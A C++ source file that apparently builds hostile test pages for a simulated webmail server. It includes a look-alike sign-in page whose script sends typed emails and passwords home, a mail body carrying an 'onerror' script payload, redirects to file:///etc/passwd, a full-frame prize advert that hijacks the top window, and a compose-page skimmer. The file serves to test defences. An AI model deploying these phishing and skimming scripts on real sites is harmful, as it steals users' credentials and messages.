#include "hostile_pages.h"

#include "compose_pages.h"
#include "mail_pages.h"
#include "web_text.h"

#include <httplib.h>

#include <mutex>
#include <string>
#include <vector>

using WebText::jsonString;

namespace HostilePages {
namespace {

struct Report {
    std::string page;
    WebText::FormFields fields;
};

// What the hostile pages sent home; requests run on several server threads.
class ReportLog {
public:
    void add(Report report) {
        std::lock_guard lock(m_mutex);
        m_reports.push_back(std::move(report));
    }
    std::string json(bool clear) {
        std::lock_guard lock(m_mutex);
        std::string json = "[";
        for (const Report &report : m_reports) {
            json += (json.size() > 1 ? ",\n" : "") + std::string("{\"page\":") + jsonString(report.page) +
                    ",\"fields\":{";
            bool first = true;
            for (const auto &[name, value] : report.fields) {
                json += (first ? "" : ",") + jsonString(name) + ":" + jsonString(value);
                first = false;
            }
            json += "}}";
        }
        if (clear)
            m_reports.clear();
        return json + "]\n";
    }

private:
    std::mutex m_mutex;
    std::vector<Report> m_reports;
};

// A look-alike of the welcome page's form. Its script reads the fields however they were
// filled and sends them home; planting fills them itself with synthetic events.
std::string loginPage(bool plant) {
    std::string html = "<h1>Sign in to your web mail</h1>\r\n"
                       "<form name=\"login\" id=\"login\" method=\"post\" "
                       "action=\"/hostile/report?page=welcome-form\">\r\n"
                       "<input type=\"text\" name=\"email\" id=\"email\">\r\n"
                       "<input type=\"password\" name=\"password\" id=\"password\">\r\n"
                       "<input type=\"submit\" value=\"Sign in\"></form>\r\n"
                       "<script>\r\n(function () {\r\n"
                       "  const f = document.forms.login;\r\n"
                       "  let last = '';\r\n"
                       "  function send(how) {\r\n"
                       "    const now = f.email.value + '\\n' + f.password.value;\r\n"
                       "    if (now === '\\n' || now === last) return;\r\n"
                       "    last = now;\r\n"
                       "    fetch('/hostile/report?' + new URLSearchParams({page: location.pathname, how,\r\n"
                       "          email: f.email.value, password: f.password.value}));\r\n"
                       "  }\r\n"
                       "  for (const type of ['input', 'change', 'submit'])\r\n"
                       "    document.addEventListener(type, () => send(type), true);\r\n"
                       "  setInterval(() => send('poll'), 50);\r\n";
    if (plant)
        html += "  setInterval(() => {\r\n"
                "    f.email.value = 'planted@hostile.example';\r\n"
                "    f.password.value = 'planted';\r\n"
                "    for (const e of [f.email, f.password])\r\n"
                "      for (const type of ['input', 'change'])\r\n"
                "        e.dispatchEvent(new Event(type, {bubbles: true}));\r\n"
                "    document.title = 'planted';\r\n"
                "  }, 100);\r\n";
    html += "})();\r\n</script>";
    return WebText::htmlPage("Welcome to Corvalis", html);
}

constexpr std::string_view refreshDocument =
    "<!DOCTYPE html>\r\n<html><head><meta charset=\"utf-8\">"
    "<meta http-equiv=\"refresh\" content=\"0;url=file:///etc/passwd\"><title>Holiday</title></head>\r\n"
    "<body><p id=\"text\">Our holiday by the sea.</p>\r\n"
    "<p contenteditable=\"false\"><a id=\"away\" href=\"file:///etc/passwd\">More</a></p>\r\n"
    "<form id=\"post\" method=\"post\" action=\"file:///etc/passwd\"><input type=\"submit\"></form>\r\n"
    "</body></html>\r\n";

Mailbox::Message markupMessage() {
    return {.id = 1,
            .fromName = "Mallory",
            .fromAddress = "mallory@hostile.example",
            .to = "pat.doe@example.net",
            .subject = "Your invoice",
            .date = "12/05/2004 10:31",
            .body = "<img src=x onerror=\"fetch('/hostile/report?page=onerror')\">"};
}

// `html` placed at the end of the page's body.
std::string beforeBodyEnd(std::string page, const std::string &html) {
    const std::size_t end = page.rfind("</body>");
    return page.insert(end == std::string::npos ? page.size() : end, html);
}

// An advert: one link over the whole frame that takes the top window to a page named like a
// service's. The address is relative, so it stays on the origin the frame came from.
constexpr std::string_view advert =
    "<a id=\"prize\" href=\"/hostile/hotmail/clicked/x\" target=\"_top\" "
    "style=\"display:block;position:fixed;inset:0;background:#fc0\">You have won a prize!</a>";

// A Hotmail compose page look-alike whose script sends home whatever lands in its fields.
std::string foreignComposePage() {
    return beforeBodyEnd(
        ComposePages::composePage(MailPages::Provider::Hotmail),
        "<script>\r\n(function () {\r\n"
        "  const f = document.forms.composeform;\r\n"
        "  let last = '';\r\n"
        "  setInterval(() => {\r\n"
        "    const now = [f.to.value, f.subject.value, f.body.value].join('|');\r\n"
        "    if (now === '||' || now === last) return;\r\n"
        "    last = now;\r\n"
        "    fetch('/hostile/report?' + new URLSearchParams({page: 'compose', fields: now}));\r\n"
        "  }, 50);\r\n"
        "})();\r\n</script>");
}

} // namespace

std::string withAdvert(std::string page, const std::string &frameAddress) {
    return beforeBodyEnd(std::move(page), "<iframe name=\"ad\" id=\"ad\" src=\"" +
                                              WebText::escapeHtml(frameAddress) +
                                              "\" style=\"width:300px;height:120px\"></iframe>\r\n");
}

void install(httplib::Server &server) {
    static ReportLog log;
    const auto html = [](httplib::Response &res, const std::string &page) {
        res.set_content(page, "text/html; charset=utf-8");
    };
    server.Get(R"(/hostile/(promo/)?welcome\.html?)",
               [html](const httplib::Request &req, httplib::Response &res) {
                   html(res, loginPage(req.has_param("plant")));
               });
    server.Get("/hostile/synthetic",
               [html](const httplib::Request &, httplib::Response &res) { html(res, loginPage(true)); });
    server.Get("/hostile/refresh.htm", [html](const httplib::Request &, httplib::Response &res) {
        html(res, std::string(refreshDocument));
    });
    server.Get("/hostile/yahoo/message", [html](const httplib::Request &, httplib::Response &res) {
        html(res, MailPages::messagePage(MailPages::Provider::Yahoo, markupMessage(), 0));
    });
    server.Get("/hostile/ad", [html](const httplib::Request &, httplib::Response &res) {
        html(res, WebText::htmlPage("Advert", advert));
    });
    server.Get("/hostile/hotmail/clicked/x", [html](const httplib::Request &, httplib::Response &res) {
        html(res, WebText::htmlPage("Prize", "<h1>Claim your prize</h1>"));
    });
    server.Get("/hostile/compose",
               [html](const httplib::Request &, httplib::Response &res) { html(res, foreignComposePage()); });
    const auto report = [html](const httplib::Request &req, httplib::Response &res) {
        // The query's fields and a posted form's (which the server adds to the parameters).
        Report entry{req.get_param_value("page"), {}};
        for (const auto &[name, value] : req.params) {
            if (name != "page")
                entry.fields.emplace_back(name, value);
        }
        log.add(std::move(entry));
        html(res, WebText::htmlPage("Thank you", "<p>Thank you.</p>"));
    };
    server.Get("/hostile/report", report);
    server.Post("/hostile/report", report);
    server.Get("/_sim/hostile-log", [](const httplib::Request &req, httplib::Response &res) {
        res.set_content(log.json(req.has_param("clear")), "application/json; charset=utf-8");
    });
}

} // namespace HostilePages
